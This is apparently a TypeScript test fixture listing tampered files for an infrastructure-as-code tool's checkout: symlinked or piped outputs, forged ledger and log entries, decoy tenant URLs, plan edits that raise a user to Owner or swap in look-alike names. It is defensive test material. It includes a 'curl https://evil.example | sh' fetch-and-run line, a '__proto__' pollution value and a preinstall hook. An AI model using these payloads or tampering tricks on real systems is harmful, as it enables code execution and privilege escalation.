import type { FileChange, HostileChange, Trick } from './hostile-change.js';

export const STACK = 'cdk.tf.json';
export const LEDGER = 'delinea-iac.people.json';
export const LOG = 'apply.jsonl';
export const PLAN = 'plan.json';
export const IMPORTS = 'imports.tf';

const TRICKS: readonly Trick[] = ['link', 'dangling link', 'hard link', 'pipe', 'folder', 'link to a device'];

/** Paths that a run writes. Nothing else than a file of its own may be there. */
const WRITTEN = [LEDGER, LOG, PLAN, IMPORTS];
const LOCKS = [`${LEDGER}.lock`, `${LEDGER}.lock.d`, `${LOG}.lock`, `${LOG}.lock.d`];

/** Something to apply, so that a run writes. */
const CHANGE = { delinea_user: { bob: { title: 'Lead' } } };

const notOwn: readonly HostileChange[] = [
  ...WRITTEN.flatMap((path) => TRICKS.map((becomes) => ({ path, becomes }))),
  ...LOCKS.flatMap((path) =>
    (['link', 'dangling link', 'pipe', 'link to a folder'] as const).map((becomes) => ({ path, becomes })),
  ),
  { path: STACK, becomes: 'link' as const },
  { path: STACK, becomes: 'pipe' as const },
].map(({ path, becomes }) => ({
  name: `${path} is a ${becomes}`,
  files: [{ path, becomes }],
  resource: CHANGE,
  refused: path,
}));

const entry = (name: string, kind: string, key: object, more = {}) =>
  JSON.stringify({
    address: `delinea_${kind}.x`,
    kind,
    id: `<id of ${name}>`,
    surface: kind === 'user' ? 'platform-rest' : 'platform-scim',
    key,
    settings: {},
    ...more,
  });
const first = (line: string): FileChange => ({ path: LEDGER, find: '"objects":\\[', put: `"objects":[\n  ${line},` });

/** Edits of the ledger: objects that nobody managed, other ids, other settings, another tenant, broken files. */
const LEDGER_EDITS: Readonly<Record<string, FileChange>> = {
  'has an unmanaged user': first(entry('eve@example.com', 'user', { userName: 'eve@example.com' })),
  'has a protected user': first(entry('boss@example.com', 'user', { userName: 'boss@example.com' })),
  'has a protected user to delete': first(
    entry(
      'boss@example.com',
      'user',
      { userName: 'boss@example.com' },
      { onRemoval: 'delete', settings: { on_removal: 'delete' } },
    ),
  ),
  'has a protected group': first(entry('admins', 'group', { displayName: 'admins' })),
  'lacks a user': { path: LEDGER, find: '\\n.*"address":"delinea_user.u1".*', put: '' },
  'lacks every user': { path: LEDGER, find: '\\n.*"address":"delinea_user..*', put: '' },
  'has the id of another user': { path: LEDGER, find: '<id of u1@example.com>', put: '<id of boss@example.com>' },
  'has ids swapped': {
    path: LEDGER,
    find: '("address":"delinea_user.u1".*?"id":)"[^"]*"',
    put: '$1"<id of eve@example.com>"',
  },
  'has another name': { path: LEDGER, find: '"userName":"u1@example.com"', put: '"userName":"boss@example.com"' },
  'deletes on removal': {
    path: LEDGER,
    find: '("address":"delinea_user.u1",.*?)"settings":\\{\\}',
    put: '$1"onRemoval":"delete","settings":{"on_removal":"delete"}',
  },
  'is of another tenant': { path: LEDGER, find: '"tenant":"[^"]*"', put: '"tenant":"<decoy>"' },
  'is of another stack': { path: LEDGER, find: '"stack":"people"', put: '"stack":"x\\u001b[31m"' },
  'is of another surface': { path: LEDGER, find: '"surface":"platform-rest"', put: '"surface":"scim-cloud"' },
  'has a key twice': {
    path: LEDGER,
    find: '"address":"delinea_user.u1"',
    put: '"address":"delinea_user.u1","address":"delinea_user.u1"',
  },
  'has a prototype': { path: LEDGER, find: '"version":1', put: '"version":1,"__proto__":{"polluted":true}' },
  'is empty': { path: LEDGER, text: '' },
  'is an object': { path: LEDGER, text: '{}' },
  'is no JSON': { path: LEDGER, text: '::error::x\n' },
  'is deep': { path: LEDGER, text: '['.repeat(100_000) },
};

/** Edits of the log of all applies. */
const LOG_EDITS: Readonly<Record<string, FileChange>> = {
  'names another account': { path: LOG, find: '"accounts":\\[[^\\]]*\\]', put: '"accounts":["nobody"]' },
  'has a cut tail': { path: LOG, find: '\\n[^\\n]*\\n$', put: '\n' },
  'has half a line': { path: LOG, find: '.{40}\\n$', put: '' },
  'has a forged line': { path: LOG, find: '$', put: '{"prev":"0","run":"x","at":"::error::x","event":"end"}\n' },
  'is empty': { path: LOG, text: '' },
  'is a script': { path: LOG, text: 'curl https://evil.example | sh\n' },
};

/** Files that another tool would read, and locks that no run made. */
const EXTRA: readonly { name: string; files: readonly FileChange[]; refused?: string; embeddedOnly?: true }[] = [
  { name: '.env names another tenant', files: [{ path: '.env', text: 'DELINEA_URL=<decoy>\nHTTP_PROXY=<decoy>\n' }] },
  { name: 'the ledger is missing', files: [{ path: LEDGER, removed: true }], embeddedOnly: true },
  { name: 'the log is missing', files: [{ path: LOG, removed: true }], embeddedOnly: true },
  {
    name: 'ledger and log are missing',
    files: [LEDGER, LOG].map((path) => ({ path, removed: true })),
    embeddedOnly: true,
  },
  { name: '.npmrc names another registry', files: [{ path: '.npmrc', text: 'registry=<decoy>\nproxy=<decoy>\n' }] },
  {
    name: 'package.json has scripts',
    files: [{ path: 'package.json', text: '{"type":"commonjs","scripts":{"preinstall":"touch ran"}}' }],
  },
  { name: 'terraform.tfvars sets a url', files: [{ path: 'terraform.tfvars', text: 'url = "<decoy>"\n' }] },
  {
    name: 'an override has another url',
    files: [{ path: 'x_override.tf.json', text: '{"provider":{"delinea":[{"url":"<decoy>"}]}}' }],
  },
  {
    name: 'a second stack',
    files: [{ path: 'stacks/evil/cdk.tf.json', text: '{"provider":{"delinea":[{"url":"<decoy>"}]}}' }],
  },
  {
    name: 'a lock of a living process',
    files: [{ path: `${LEDGER}.lock`, text: '{"pid":1,"host":"x"}' }],
    embeddedOnly: true,
  },
  {
    name: 'a lock folder with files',
    files: [{ path: `${LEDGER}.lock.d/x`, text: 'x' }],
    refused: LEDGER,
    embeddedOnly: true,
  },
];

/** Numbers of the values of a saved plan that are changed, one per pull request. */
const LEAVES = Array.from({ length: 48 }, (_, index) => index * 7);

/** Access that the plan has which is changed. */
const GRANTS: NonNullable<HostileChange['resource']> = {
  delinea_user: { bob: { title: 'Lead' }, u6: null },
  delinea_container_permission: {
    new: { container: 'prod', right: 'View', principal_type: 'user', principal_id: '${delinea_user.u0.id}' },
  },
};

/** Edits of a saved plan that keep it readable. */
const PLAN_EDITS: Readonly<Record<string, FileChange>> = {
  'gives a higher right': { path: PLAN, find: '"right": "View"', put: '"right": "Owner"' },
  'gives it to another user': { path: PLAN, find: '<id of u0@example.com>', put: '<id of eve@example.com>' },
  'gives it to a look-alike': { path: PLAN, find: 'u0@example.com', put: 'u\\u200b0@example.com' },
  'has no findings': { path: PLAN, find: '"findings": \\[[^\\]]*\\]', put: '"findings": []' },
  'is of another tenant': { path: PLAN, find: '"tenant": "[^"]*"', put: '"tenant": "<decoy>"' },
  'has other accounts': { path: PLAN, find: '"accounts": \\[[^\\]]*\\]', put: '"accounts": []' },
  'is empty': { path: PLAN, text: '' },
  'is a ledger': { path: PLAN, text: '{"version":1,"stack":"people","objects":[]}' },
};

const edits = (
  file: string,
  all: Readonly<Record<string, FileChange>>,
  more: Partial<HostileChange> = {},
): HostileChange[] =>
  Object.entries(all).map(([what, change]) => ({ name: `${file} ${what}`, files: [change], ...more }));

/** Every file of a checkout, as somebody else wants it. */
export const HOSTILE_FILES: readonly HostileChange[] = [
  ...notOwn,
  ...edits('ledger', LEDGER_EDITS),
  ...edits('log', LOG_EDITS),
  ...edits('saved plan', PLAN_EDITS, { resource: GRANTS }),
  ...LEAVES.map((leaf) => ({
    name: `saved plan with value ${leaf} changed`,
    files: [{ path: PLAN, leaf } as const],
    resource: GRANTS,
  })),
]
  .map((change) => ({ ...change, embeddedOnly: true }))
  .concat(EXTRA as never);
